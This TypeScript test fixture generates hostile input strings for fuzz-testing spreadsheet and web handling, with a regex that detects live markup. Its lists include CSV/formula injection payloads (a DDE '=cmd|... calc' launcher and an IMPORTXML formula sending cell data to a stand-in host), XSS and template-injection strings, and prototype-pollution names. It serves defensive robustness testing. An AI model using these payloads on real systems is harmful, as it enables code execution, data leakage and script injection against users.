/** @fileoverview Texts that break registers: formulas, markup, control characters, endless cells, dates that are none. */
import fc from 'fast-check';

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://x.example","点我")',
  '=IMPORTXML("http://x.example/"&A1,"//a")',
  '=SUM(A1:A9)*1E99',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  ' =1+1',
  '\n=1+1',
  '\r=1+1',
  "'=1+1",
  '＝1+1',
  '=cmd|" /C calc"!A0',
  '={1,2;3,4}',
  '=IF(TRUE,"=1","=2")',
  '"=1+1"',
  '=',
  '+',
  '-',
  '@',
];

const MARKUP = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<!--<script>',
  '<svg/onload=alert(1)>',
  '"><b onmouseover=alert(1)>x</b>',
  "';alert(1);//",
  '</title></style></textarea><iframe src=//x.example>',
  '<a href="javascript:alert(1)">x</a>',
  '&lt;script&gt;',
  '&#60;script&#62;',
  ']]>',
  '<?= 1 ?>',
  '<?!= include("x") ?>',
  '{{constructor.constructor("alert(1)")()}}',
];

const NAMES = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'prototype',
  'null',
  'undefined',
  'NaN',
  'true',
];

const CONTROLS = [
  '\u0000',
  '\u0007',
  '\u0008',
  '\u000b',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  '\u2028',
  '\u2029',
  '\ufeff',
  '\u200b',
  '\u200d',
  '\ufffe',
  '\ud800',
  '\udc00',
  '\r\n\r\n',
  '\t\t',
];

const SCRIPTS = [
  '👨‍👩‍👧‍👦',
  '😀'.repeat(500),
  '🇨🇳',
  '\u202e固定电话\u202c',
  'שלום עולם',
  'مرحبا بالعالم',
  'e\u0301'.repeat(40),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙',
  '𠮷野家',
  'ﷺ',
];

const LONG = [
  'x'.repeat(50_000),
  '客'.repeat(50_000),
  '长 '.repeat(25_000),
  '<'.repeat(49_999),
  '"'.repeat(30_000),
  '😀'.repeat(25_000),
  '\\'.repeat(40_000),
];

const DATES = [
  '2026-02-30',
  '2026-13-01',
  '0000-00-00',
  '9999-12-31',
  '1899-12-30',
  '31/12/2026',
  '12/31/26',
  '2026年2月30日',
  '明天',
  '20261301',
  '2026-11-23T25:61',
  '-1',
  '1e308',
  '1e-320',
  'Infinity',
  '0x1F',
  '99999999999999999999',
];

const DIGITS = [
  '１３８００１３８０００',
  '０１０－５６７８１２３４',
  '２０２６－０２－３０',
  '٣٤٥',
  '①②③',
  '壹佰万',
  '１００万',
  '13800138000転1',
  '+86-(0)-1',
];

const ERRORS = ['#N/A', '#REF!', '#DIV/0!', '#VALUE!', '#NAME?', '#NUM!', '#NULL!', '#ERROR!'];

const plain = fc.constantFrom(
  ...FORMULAS,
  ...MARKUP,
  ...NAMES,
  ...CONTROLS,
  ...SCRIPTS,
  ...DATES,
  ...DIGITS,
  ...ERRORS,
);

/** As it is, two of them together, one inside a common text, or any characters at all. */
const hostileText = fc.oneof(
  { weight: 10, arbitrary: plain },
  { weight: 4, arbitrary: fc.tuple(plain, plain).map(([a, b]) => a + b) },
  { weight: 3, arbitrary: plain.map((text) => `苏州${text}机械有限公司`) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 80 }) },
  { weight: 1, arbitrary: fc.constantFrom(...LONG) },
);

/** The same `count` texts for the same seed. */
export function hostileTexts(seed: number, count: number): string[] {
  return fc.sample(hostileText, { numRuns: count, seed });
}

/** What a page or a mail must never hold: the markup of one of these texts, alive. */
export const ALIVE = /<img src=x|<script>alert|<svg\/onload|<b onmouseover|<iframe|<a href="javascript|<!--<script/i;
